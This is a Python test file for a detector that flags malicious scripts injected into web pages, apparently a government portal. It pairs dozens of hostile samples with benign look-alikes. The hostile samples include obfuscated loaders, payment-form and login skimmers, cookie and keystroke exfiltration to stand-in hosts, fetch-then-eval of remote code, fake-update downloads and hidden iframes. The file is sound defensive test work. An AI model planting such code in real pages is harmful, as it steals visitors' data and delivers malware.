"""What scripts do, read off their plain code: each flow in an injected script, and the innocent script beside it."""

from __future__ import annotations

import time
from base64 import b64encode

import pytest
from portal import MENU, TEXT, rulebook

from probes.defacement.flows import LOADS, Flow, flows_of, handlers_of
from probes.defacement.page import PageVerdict, judge_page
from probes.defacement.plaincode import CLOSE, MAX_GROWN, MAX_SCRIPT, OPEN, literals, plain_code

LIVING = f"<html><head><title>Cổng thông tin</title></head><body>{MENU}<main><p>{TEXT * 4}</p></main>%s</body></html>"
ADDRESS = "https://thong-ke.example.com/a.js"
PUT = "var s=document.createElement('script');s.src=%s;document.body.appendChild(s)"
CODED = b64encode(ADDRESS.encode()).decode()
KEY = "q9"
KEYED = ",".join(str(ord(letter) ^ ord(KEY[at % 2])) for at, letter in enumerate(ADDRESS))
CODES = ",".join(str(ord(letter)) for letter in ADDRESS)
DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="


def judge(foot: str) -> PageVerdict:
    page = (LIVING % foot).encode()
    return judge_page(page, content_type="text/html", url="https://chodon.backan.gov.vn/", rules=rulebook())


def codes(verdict: PageVerdict) -> set[str]:
    return {reason.code for reason in verdict.reasons}


@pytest.mark.parametrize(
    "script",
    [
        "var u='https://thong'+'-ke.exam'+'ple.com/a.js'",
        f"var u='{ADDRESS[::-1]}'.split('').reverse().join('')",
        f"var u=[...'{ADDRESS[::-1]}'].reverse().join('')",
        f"var u=atob('{CODED}')",
        f"var u=window['at'+'ob']('{CODED}')",
        f"var u=String.fromCharCode({CODES})",
        f"var S=String,f='from'+'CharCode',u=S[f]({CODES})",
        f"var k='{KEY}',u=[{KEYED}];for(i in u)o+=String.fromCharCode(u[i]^k.charCodeAt(i%k.length))",
        "var u=['https:','','thong-ke.example.com','a.js'].join('/')",
        "var u='https://thong@-ke.exam@ple.com/@a.js'.replace(/@/g,'')",
        "var u='hXttps://thonXg-ke.exampXle.com/a.js'.split('X').join('')",
        "var u=unescape('%68%74%74%70%73://thong-%6b%65.ex%61mple.com/a.js')",
        "var u='\\x68ttps://thong-k\\u0065.example.com/a.js'",
        "var a=['.com/a.js','https://thong-ke','.example'],u=a[1]+a[0x2]+a[0]",
        f"(function(d,t,u){{go(d,t,u)}})(document,'script','{ADDRESS}')",
        f"a.fancy();;(function(d,t,u){{go(d,t,u)}})(document,'script','{ADDRESS}');(function($){{$('a').click()}})(jQuery)",
        f"var h='{f'var u={ADDRESS!r}'.encode().hex()}';o+=String.fromCharCode(parseInt(h.substr(i,2),16))",
        f"a='{''.join(chr(ord(letter) ^ 2) for letter in ADDRESS)}';b+=String.fromCharCode(a.charCodeAt(i)^2)",
    ],
)
def test_what_is_constant_is_worked_out(script: str) -> None:
    assert any(ADDRESS in literal for literal in literals(plain_code(script)))


def test_names_assigned_twice_and_words_in_literals_stay() -> None:
    code = plain_code("var a='x';a='y';b='a in a sentence';go(a,b)")
    assert f"go(a,{OPEN}a in a sentence{CLOSE})" in code


@pytest.mark.parametrize(
    ("code", "script"),
    [
        ("code-hidden", PUT % f"'{ADDRESS[::-1]}'.split('').reverse().join('')"),
        ("code-hidden", PUT % f"[{','.join(map(repr, ADDRESS))}].join('')"),
        (
            "code-hidden",
            "document.write('<scr'+'ipt src=https://tho'+'ng-ke.exa'+'mp'+'le-vidu.com/a.js></scr'+'ipt>')",
        ),
        ("code-hidden", f"var u=giai('{CODED}');" + PUT % "u"),
        ("code-hidden", "z=String.fromCharCode(parseInt(t)+25-l+a);document.write('<'+x[0]+' '+x[4]+'>')"),
        ("code-hidden", PUT % "document.getElementById('p').dataset.x.split('').reverse().join('')"),
        ("code-hidden", PUT % "b('5a{b)28e;2,0;1,e}5;fa1}1p97c;7)a}c(e;4{2,=)v{&m0}2)2')"),
        (
            "code-hidden",
            "h=()=>{x=new XMLHttpRequest();x.open('GET','https://la.example.com');x.send();return x.responseText};"
            "f=document.createElement('iframe');f.style.display='none';f.src='https://'+h()+'/v'",
        ),
        ("code-decoder", "new Function(atob(document.body.dataset.x))()"),
        ("code-fetched", "fetch('https://la.example.com/x').then(r=>r.text()).then(eval)"),
        (
            "code-fetched",
            "var x=new XMLHttpRequest();x.open('GET','https://la.example.com/x');x.onload=function(){eval(x.responseText)}",
        ),
        (
            "code-fetched",
            "fetch('https://la.example.com/b').then(r=>r.text()).then(t=>{document.body.innerHTML=t})",
        ),
        ("code-tells", PUT % "'https://la.example.com/r?q='+btoa(document.referrer)"),
        (
            "code-tells",
            "document.write('<script src=\"https://la.example.com/j.js?u='+escape(location)+'&r='"
            "+document.referrer+'&t='+document.title+'\"><\\/script>')",
        ),
        ("code-library", "document.write('<script src=\"http://la.example.com/js/jquery.min.php\"><\\/script>')"),
        ("code-gated", f"if(document.referrer.match(/google|bing/)){{{PUT % repr(ADDRESS)}}}"),
        ("code-gated", "if(u.indexOf('ooglebot')==-1&&phone)location='http://203.0.113.9/kt/x'"),
        ("code-gated", f"if(!/Googlebot|bingbot/.test(navigator.userAgent)){{{PUT % repr(ADDRESS)}}}"),
        ("code-gated", "if(/Mobile/.test(navigator.userAgent)){" + PUT % "'http://la.example.com/dem.php?mob=1'" + "}"),
        ("code-tells", PUT % "'https://la.example.com/json.aspx?c='+escape(document.cookie)"),
        ("script-sealed", PUT % "'https://la.example.com/OM34nkPvm/dc78KsD/rUvErvwrxWv5LuVK+ZvEU='"),
        (
            "code-secrets",
            "jQuery('.submitButton').bind('mouseup touchend',function(t){var n=jQuery('#paymentForm').serializeArray();"
            "jQuery.ajax({type:'POST',url:'https://la.example.com/api',data:n})})",
        ),
        (
            "pop-under",
            "document.onclick=function(e){if(t)return;t=1;var w=window.open('http://la.example.com/css/','_blank')}",
        ),
        (
            "code-speck",
            "document.write('<iframe src=http://la.example.com/in width=6 style=\"visibility: hidden\"></iframe>')",
        ),
        ("code-decoder", 'try{+function(){++(window["document"].body)==null}()}catch(q){w=1}' + PUT % "u"),
        ("code-decoder", "z='" + "_".join(f"{n % 200 + 20:x}" for n in range(400)) + "_'.split('_');" + PUT % "u"),
        ("code-decoder", "f='" + "i".join(str(n % 140 - 40) for n in range(400)) + "i';g=f.split('i');" + PUT % "g"),
        ("code-string", f'setTimeout("{PUT % repr(ADDRESS)}",500)'),
        ("code-speck", "document.write('<iframe src=http://la.example.com/700.htm width=0 height=0></iframe>')"),
        (
            "code-once",
            "if(!g()){document.cookie='1=1;path=/';document.write('<script src=\"http://la.example.com/c.js\"><\\/script>')}",
        ),
        ("code-decoder", f"function n(e){{var m='{DIGITS}';return m}}eval(n('hp7cycq5CduFGdy9Gct'))"),
        ("code-decoder", 'x=document;try{--(x["body"])}catch(e){w=1}' + PUT % "u"),
        ("code-scares", "var l=navigator.language,msg='Your computer is infected. You have to check it.'"),
        ("code-typed", "document.onkeypress=function(e){b+=e.key;new Image().src='https://la.example.com/k?c='+b}"),
        ("code-secrets", "$('#login').on('submit',function(){$.post('https://la.example.com/s',$(this).serialize())})"),
        (
            "code-fields",
            "var i=document.querySelectorAll('input, select');q+=i[0].value;var x=new XMLHttpRequest();"
            "x.open('POST','https://la.example.com/jquery.min.js')",
        ),
        ("code-drops", "a.href='https://la.example.com/update.exe';a.download='ChromeUpdate.exe';a.click()"),
        ("code-drops", "var d=atob(b);go('TVqQAAMAAAAEAAAA//8AALgAAAA');a.download='VanBan.zip';a.click()"),
        ("code-orders", "var s=new ActiveXObject('WScript.Shell');s.Run('cmd /c echo 1')"),
        ("code-ledger", "fetch(u,{body:JSON.stringify({method:'eth_call',params:[]})})"),
        ("code-wallet", "await p.request({method:'eth_requestAccounts'});go(location)"),
        ("code-trap", "window.onpopstate=function(){location.href='https://la.example.com/go'}"),
        (
            "code-hidden",
            "var n=ten(d.getDate(),'ru');f=document.createElement('IFRAME');f.setAttribute('src','http://'+n+'/in.cgi?17');"
            "f.style.width='0px';f.style.visibility='hidden'",
        ),
        (
            "frame-odd",
            "var f=document.createElement('iframe');f.src='http://la.example.com/in.cgi?3';f.width=1;f.height=1",
        ),
    ],
)
def test_injected_code_is_told_by_what_it_does(code: str, script: str) -> None:
    verdict = judge(f"<script>{script}</script>")
    assert code in codes(verdict)
    assert verdict.verdict != "clean"


@pytest.mark.parametrize(
    "script",
    [
        PUT % repr(ADDRESS),  # a plain script of an ordinary host: nothing but the baseline tells it
        "document.write('<scr'+'ipt src=\"//dem.example.com/a.js\"></scr'+'ipt>')",
        "var u=('https:'==document.location.protocol?'https://':'http://')+'dem.example.com/a.js';" + PUT % "u",
        "var shop='vidu';" + PUT % "'https://'+shop+'.example.com/w.js?url='+encodeURIComponent(location)",
        "window['vi'+'Du'+'Chat']=1;" + PUT % "'//cs15.vi'+'duchat.com/c.js'",  # a vendor who signs
        "fetch('/api/tin').then(r=>r.text()).then(t=>{document.getElementById('tin').innerHTML=t})",
        "fetch('https://thoitiet.example.com/v1').then(r=>r.json()).then(d=>{k.innerHTML=d.t})",
        "if(/Android/.test(navigator.userAgent))document.body.className='mobile'",
        "document.getElementById('q').addEventListener('keyup',function(e){$.get('/tim?q='+this.value)})",
        "$('#login').on('submit',function(){$.post('/dang-nhap',$(this).serialize())})",
        "window.onpopstate=function(){location.href='/trang-chu'}",
        "a.href=URL.createObjectURL(new Blob([csv]));a.download='danh-sach.csv';a.click()",
        "var days='0c1d2e';document.cookie='lan=vi';var s=document.createElement('script');s.src='/js/x.js'",
        "window.tin={tieu_de:'“Your computer is infected”: thủ đoạn lừa đảo mới'};var s=location.hash",
        "var ma='" + "k3x9z" * 100 + "';fetch('/api?m='+ma)",
        "h=chon(d.getDate());f=document.createElement('iframe');f.src='//'+h+'/dong-bo';f.style.display='none'",
        "S='b64';var A='" + DIGITS + "';eval(r);/* cloudproxy */",
        "var f=document.createElement('iframe');f.src='https://la.example.com/chat';f.style.display='none'",
    ],
)
def test_scripts_of_ordinary_pages_say_nothing(script: str) -> None:
    verdict = judge(f"<script>{script}</script>")
    assert verdict.verdict == "clean", codes(verdict)
    assert not any(code.startswith("code-") for code in codes(verdict))


def test_an_image_that_fails_loads_a_script() -> None:
    loads = PUT.replace("'", "\\'") % f"\\'{ADDRESS}\\'"
    verdict = judge(f'<img src=x onerror="{loads.replace(chr(92), "")}">')
    assert "code-handler" in codes(verdict)
    assert "code-handler" not in codes(
        judge("<img src=\"a.png\" onerror=\"this.src='/khong-co-anh.png';this.alt=''\">")
    )


def test_a_script_within_its_own_address_is_read() -> None:
    inner = b64encode(f"fetch('https://la.example.com/x').then(r=>r.text()).then(eval);{'//' * 40}".encode()).decode()
    assert "code-fetched" in codes(judge(f'<script src="data:text/javascript;base64,{inner}"></script>'))


def test_what_a_packer_packed_is_read() -> None:
    words = "var|s|document|createElement|script|src|https|thong|ke|example|com|a|js|body|appendChild"
    packed = "0 1=2.3(\\'4\\');1.5=\\'6://7-8.9.a/b.c\\';2.d.e(1)"
    script = f"eval(function(p, a, c, k, e, r){{return p}}('{packed}', 16, 15, '{words}'.split('|'), 0, {{}}))"
    assert "code-string" in codes(judge(f"<script>{script}</script>"))


@pytest.mark.parametrize(
    ("code", "foot"),
    [
        ("script-odd", '<td>Tin<script src="http://la.example.com/b.js"></script></td>' * 2),
        ("script-odd", '<script src="http://jquery.su/cloud.js"></script>'),
        ("script-odd", '<script src="http://la.example.com/count/gif.gif"></script>'),
        ("break-out", '<h3>"></title><script src="http://la.example.com/csrss/w.js"></script><!--Lịch học</h3>'),
    ],
)
def test_scripts_put_into_fields_or_under_false_names(code: str, foot: str) -> None:
    assert code in codes(judge(foot))


@pytest.mark.parametrize(
    "foot",
    [
        '<script src="https://la.example.com/thu-vien/b.js"></script>' * 2,
        '<script src="https://code.jquery.com/jquery.js"></script>',
        '<script src="https://la.example.com/anh.gif.js"></script><img src="https://la.example.com/a.gif">',
    ],
)
def test_honest_scripts_beside_them(foot: str) -> None:
    assert judge(foot).verdict == "clean"


def test_data_is_no_code() -> None:
    text = f'<script type="application/ld+json">{{"a":"{PUT % "atob(x)"}"}}</script>'
    assert not any(code.startswith("code-") for code in codes(judge(text)))


def test_a_hidden_address_that_the_page_links_openly_is_its_makers() -> None:
    script = f"<script>{PUT % repr(ADDRESS[::-1])}</script>".replace("';", "'.split('').reverse().join('');", 1)
    coded = f"<script>{PUT % f'atob({CODED!r})'}</script>"
    assert "code-hidden" in codes(judge(coded))
    assert "code-hidden" not in codes(judge(f'{script}{coded}<a href="https://www.example.com/">Giao diện: Thu</a>'))


def test_what_a_page_of_own_scripts_does_at_home_is_no_flow() -> None:
    flow = "fetch('https://chodon.backan.gov.vn/api').then(r=>r.text()).then(eval)"
    assert "code-fetched" not in codes(judge(f"<script>{flow}</script>"))


@pytest.mark.parametrize(
    "piece",
    ["/*", "['a',", "fetch('//a.bc/d'", "WScript.Shell.Run ", "a='b',c=a,", "\\x41'", "'a'.replace(/a/g,'')", "try{--(",
     "document.write('<script ", "17:5d:6c:", "function(a,b){", "`${", "}('a','b')"],
)  # fmt: skip
def test_hostile_scripts_are_bounded(piece: str) -> None:
    script = (piece * (MAX_SCRIPT // len(piece)))[:MAX_SCRIPT]
    started = time.process_time()
    flows_of([script], [])
    handlers_of(f"<img onerror='{piece}" * 2000)
    handlers_of(f"<img {'onload ' * 120}>" * 2000)
    assert time.process_time() - started < 5.0  # some 0.2 s


@pytest.mark.parametrize(
    "script",
    [
        "'" + "a" * 11_000 + "'.split('a').join('" + "b" * 11_000 + "')",
        "'" + "a" * 11_000 + "'.replace(/a/g,'" + "b" * 11_000 + "')",
        "x='" + "b" * 11_000 + "';" + "x;" * 6_000,
        "[" + "'a'," * 400 + "'a'].join('" + "b" * 11_000 + "')",
        "x=['" + "a" * 9_000 + "'];" + "x[0];" * 2_000,
    ],
)
def test_what_is_worked_out_does_not_grow_without_end(script: str) -> None:
    assert len(plain_code(script)) <= MAX_GROWN


def test_a_flow_is_told_once_and_remembered() -> None:
    script = PUT % f"atob('{CODED}')"
    assert (
        flows_of([script, script], []) == flows_of([script], []) == (Flow("code-hidden", ADDRESS), Flow(LOADS, ADDRESS))
    )


@pytest.mark.parametrize(
    "script",
    [
        "document.write(unescape('%ud800%u3c73%u0063aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'))",
        PUT % "unescape('//a%2eb%2ecom/%ud800x/x.js')",
        PUT % "decodeURIComponent('//a%2eb%2ecom/%uDC00x.js')",
        "document.write('\\x3c\\x62\\x3e\\ud800\\x68\\x61\\x63\\x6b\\x65\\x64')",
        "a='\ud7ffaaaaaaaaaaaaaaaaaaaaa%41';b+=String.fromCharCode(a.charCodeAt(i)^999)",
    ],
)
def test_half_a_character_stops_no_judgement(script: str) -> None:
    verdict = judge(f"<script>{script}</script>")
    for text in (*verdict.features.unpacked, *(reason.detail for reason in verdict.reasons)):
        assert text.encode()


def test_two_halves_are_one_character() -> None:
    script = "document.write(unescape('%ud83d%ude00%u003cb%u003e%u0068%u0061%u0063%u006b'))"
    assert any("\U0001f600<b>hack" in piece for piece in judge(f"<script>{script}</script>").features.unpacked)


def test_a_pattern_that_is_none_says_nothing_on_our_terminal(capfd: pytest.CaptureFixture[str]) -> None:
    assert "abc" in plain_code("x='abc'.replace(/[\x1b[31m(/g,'b')")
    assert capfd.readouterr() == ("", "")
